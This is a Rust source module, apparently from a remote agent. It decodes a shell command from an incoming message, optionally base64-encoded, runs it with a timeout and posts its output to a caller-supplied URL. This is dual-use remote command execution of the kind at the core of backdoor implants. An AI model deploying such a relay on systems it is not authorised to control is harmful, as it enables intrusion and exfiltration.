//! `x1`: run a shell command and relay its standard output.

use std::process::Stdio;
use std::time::Duration;

use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use base64::Engine;
use tokio::io::{AsyncBufReadExt, AsyncRead, BufReader};
use tokio::process::Command;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, instrument, warn};

use super::{required, HandlerContext};
use crate::config::ShellConfig;
use crate::envelope::Envelope;
use crate::error::CommandError;
use crate::sink::ResultSink;

/// Standard alphabet, padding optional.
const BASE64: GeneralPurpose = GeneralPurpose::new(
    &alphabet::STANDARD,
    GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent),
);

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ShellParams {
    pub command: String,
    /// Where to post the output when no listener claims it.
    pub endpoint: Option<String>,
}

/// Resolve the command and its destination.
///
/// `curlCommandBase64` wins over `curlCommand` when it decodes to valid
/// UTF-8. `endpointURL` may be omitted only when a listener is waiting.
pub fn resolve(envelope: &Envelope, listener_available: bool) -> Result<ShellParams, CommandError> {
    let endpoint = envelope.get_non_blank("endpointURL").map(str::to_string);
    if endpoint.is_none() && !listener_available {
        return Err(CommandError::missing("endpointURL"));
    }

    let decoded = envelope
        .get("curlCommandBase64")
        .and_then(|encoded| match decode_command(encoded) {
            Ok(command) => Some(command),
            Err(e) => {
                warn!(error = %e, "Falling back to curlCommand");
                None
            }
        });
    let command = match decoded {
        Some(command) => command,
        None => required(envelope, "curlCommand")?.to_string(),
    };
    if command.trim().is_empty() {
        return Err(CommandError::missing("curlCommand"));
    }

    Ok(ShellParams { command, endpoint })
}

fn decode_command(encoded: &str) -> Result<String, CommandError> {
    let compact: String = encoded
        .chars()
        .filter(|c| !c.is_ascii_whitespace())
        .collect();
    let bytes = BASE64
        .decode(compact)
        .map_err(|e| CommandError::Decode {
            field: "curlCommandBase64",
            reason: e.to_string(),
        })?;
    String::from_utf8(bytes).map_err(|e| CommandError::Decode {
        field: "curlCommandBase64",
        reason: e.to_string(),
    })
}

/// Execute the command and deliver its output.
pub async fn run(params: ShellParams, mut sink: ResultSink, ctx: HandlerContext) {
    let output = execute(&ctx.config.shell, &params.command, &ctx.cancel).await;

    if let Some(listener) = sink.claim_listener() {
        listener.deliver(output);
        return;
    }
    let Some(endpoint) = params.endpoint else {
        info!("Listener already claimed and no endpointURL, dropping output");
        return;
    };
    if let Err(e) = ctx.poster.post_text(&endpoint, output).await {
        warn!(error = %e, "Failed to deliver shell output");
    }
}

/// Run `command` through the configured shell and collect its stdout.
///
/// Each line is followed by `\n`. The deadline and cancellation cover both
/// reading stdout and waiting for the exit; when either fires the child is
/// killed and whatever was read so far is returned. Spawn failures yield
/// an empty string.
#[instrument(skip(shell, command, cancel), fields(program = %shell.program))]
pub async fn execute(shell: &ShellConfig, command: &str, cancel: &CancellationToken) -> String {
    debug!(command_len = command.len(), "Running shell command");

    let mut child = match Command::new(&shell.program)
        .arg("-c")
        .arg(command)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
    {
        Ok(child) => child,
        Err(e) => {
            warn!(error = %e, "Failed to spawn shell");
            return String::new();
        }
    };
    let Some(stdout) = child.stdout.take() else {
        warn!("Shell stdout was not captured");
        return String::new();
    };

    let mut reader = BufReader::new(stdout);
    let mut output = String::new();
    let interrupted = {
        let finished = async {
            if let Err(e) = read_lines(&mut reader, &mut output).await {
                warn!(error = %e, "Failed reading shell output");
            }
            child.wait().await
        };
        tokio::select! {
            status = finished => {
                match status {
                    Ok(status) => debug!(%status, "Shell command finished"),
                    Err(e) => warn!(error = %e, "Failed to reap shell command"),
                }
                None
            }
            () = deadline(shell.timeout()) => Some("timed out"),
            () = cancel.cancelled() => Some("cancelled"),
        }
    };

    if let Some(reason) = interrupted {
        warn!(reason, bytes = output.len(), "Killing shell command");
        if let Err(e) = child.kill().await {
            warn!(error = %e, "Failed to kill shell command");
        }
    }
    output
}

/// Append every line of `reader` to `output`, normalising line endings to
/// `\n` and decoding invalid UTF-8 lossily.
async fn read_lines<R: AsyncRead + Unpin>(
    reader: &mut BufReader<R>,
    output: &mut String,
) -> std::io::Result<()> {
    let mut line = Vec::new();
    loop {
        line.clear();
        if reader.read_until(b'\n', &mut line).await? == 0 {
            return Ok(());
        }
        if line.last() == Some(&b'\n') {
            line.pop();
        }
        if line.last() == Some(&b'\r') {
            line.pop();
        }
        output.push_str(&String::from_utf8_lossy(&line));
        output.push('\n');
    }
}

async fn deadline(timeout: Option<Duration>) {
    match timeout {
        Some(timeout) => tokio::time::sleep(timeout).await,
        None => std::future::pending().await,
    }
}
